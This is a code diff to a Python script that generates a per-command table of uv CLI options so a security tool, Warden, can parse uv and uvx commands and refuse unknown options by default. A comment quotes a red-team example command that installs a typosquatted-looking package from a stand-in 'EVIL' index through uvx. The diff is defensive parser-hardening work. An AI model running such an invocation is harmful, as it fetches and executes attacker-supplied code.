@@ -7,10 +7,13 @@ spelling, installed what r.txt named; `--overrides`, `--with-executables-from` l
 sides take the table from this one file: `valued` and `flags` are every option the help of
 those commands lists (an option valued in one command and a flag in another is in both), and
 `aliases` maps the spellings clap hides from the help (probed one by one against that uv: it
-took them) to the name Warden's readers use. `uv run` has its own table (uv-run-cli.json).
+took them) to the name Warden's readers use, and `by_command` is each command's own closed
+set (its help and the options the real uv takes that the help hides). `uv run` has its own
+table (uv-run-cli.json).
 Regenerate for a newer uv:
 
     for c in ...COMMANDS...; do echo "### uv $c"; uv $c --help; done > scripts/uv-cli-help-<v>.txt
+    python scripts/uv-cli-probe.py "$(command -v uv)"   # the options the help hides
     python scripts/uv-cli-table.py            # writes schema/uv-cli.json
     python scripts/uv-cli-table.py --check    # exit 1 when the file differs
 
@@ -26,6 +29,7 @@ ROOT = Path(__file__).resolve().parents[1]
 VERSION = "0.13.9"
 HELP = ROOT / "scripts" / f"uv-cli-help-{VERSION}.txt"
 OUT = ROOT / "schema" / "uv-cli.json"
+PROBED = ROOT / "scripts" / f"uv-cli-probe-{VERSION}.json"
 # hidden spellings uv 0.13.9 accepts (each probed: `uv pip install ALIAS x` parsed), and the
 # one Warden reads: its readers name the file options `--requirement`, `--constraint`,
 # `--override`, `--build-constraints`; `--with-executables-from` installs packages as `--with`
@@ -38,28 +42,58 @@ ALIASES = {
     "--config-settings": "--config-setting",
     "--with-executables-from": "--with",
 }
-# uv's global options hidden from the per-command help but taken before a tool's name
-# (red team 15 R15-14: `uvx --python-preference system --index-url EVIL --from torcj ...` read
-# `system` as the tool); `uv run --help` shows them (schema/uv-run-cli.json)
-HIDDEN_VALUED = ("--python-preference", "--preview-features")
+# uv's global options hidden from the help (uv's source, crates/uv-cli GlobalArgs `hide =
+# true`): asked about too (scripts/uv-cli-probe.py), as they are in no help text (red team 15
+# R15-14: `uvx --python-preference system --index-url EVIL --from torcj ...` read `system` as
+# the tool)
+HIDDEN_GLOBAL_VALUED = ("--python-preference", "--preview-features", "--preview-feature",
+                        "--python-fetch")  # fmt: skip
+# clap `alias` spellings of uv's source that no help shows (the hidden ones Warden's readers
+# rename are ALIASES): asked about as the hidden options are
+HIDDEN_SPELLINGS = ("--trusted-host",)
+HIDDEN_GLOBAL_FLAGS = (
+    "--allow-python-downloads", "--no-color", "--native-tls", "--no-native-tls",
+    "--no-system-certs", "--no-offline", "--preview", "--no-preview", "--isolated",
+    "--show-settings", "--no-installer-metadata",
+)  # fmt: skip
 # `-s, --script  Run the given path as a Python script`; `-p, --python <PYTHON>`
 _OPTION = re.compile(r"^\s+(?:(-[A-Za-z]), )?(--[a-z0-9-]+)(?: <[A-Z_]+>|(\.\.\.))?(?:\s|$)")
 _VALUED = re.compile(r"^\s+(?:-[A-Za-z], )?--[a-z0-9-]+ <")
 
 
+def _options(body: str, probed: dict) -> tuple:
+    """``(valued, flags)`` of one command: its help, and what the real uv answered when asked
+    about each option any help lists (``probed``, scripts/uv-cli-probe.py: the options clap
+    hides, global or this command's own, and the hidden spellings this command takes)."""
+    valued, flags = set(probed["valued"]), set(probed["flags"])
+    for line in body.splitlines():
+        m = _OPTION.match(line)
+        if m:
+            names = [n for n in (m.group(1), m.group(2)) if n]
+            (valued if _VALUED.match(line) else flags).update(names)
+    return valued, flags
+
+
 def table(help_text: str) -> dict:
-    valued, flags, commands = set(), set(), []
+    """The union of every command's options (``valued``, ``flags``: an option valued in one
+    command and a flag in another is in both), and each command's own (``by_command``: red
+    team 15 R15-14, uv's option set is closed per command, so Warden reads each command's
+    options deny by default: an option word in neither of its sets is refused; ``uvx`` is
+    ``uv tool run``)."""
+    probed = json.loads(PROBED.read_text(encoding="utf-8"))
+    valued, flags, commands, by_command = set(), set(), [], {}
     for section in help_text.split("### ")[1:]:
         head, _, body = section.partition("\n")
         commands.append(head.strip())
-        for line in body.splitlines():
-            m = _OPTION.match(line)
-            if m:
-                names = [n for n in (m.group(1), m.group(2)) if n]
-                (valued if _VALUED.match(line) else flags).update(names)
-    valued.update(HIDDEN_VALUED)
-    for alias, name in ALIASES.items():
-        (valued if alias in valued or name in valued else flags).add(alias)
+        own_valued, own_flags = _options(body, probed[head.strip()])
+        valued |= own_valued
+        flags |= own_flags
+        by_command[head.strip()] = {"valued": sorted(own_valued), "flags": sorted(own_flags)}
+    # `uvx` is `uv tool run` with uv's own -V/--version (probed like the others)
+    by_command["uvx"] = {
+        "valued": by_command["uv tool run"]["valued"],
+        "flags": sorted(set(by_command["uv tool run"]["flags"]) | {"-V", "--version"}),
+    }
     return {
         "$comment": "Generated by scripts/uv-cli-table.py from the help of the uv commands "
         "Warden reads and the spellings uv hides from it; do not edit.",
@@ -68,6 +102,7 @@ def table(help_text: str) -> dict:
         "valued": sorted(valued),
         "flags": sorted(flags),
         "aliases": ALIASES,
+        "by_command": by_command,
     }
 
 
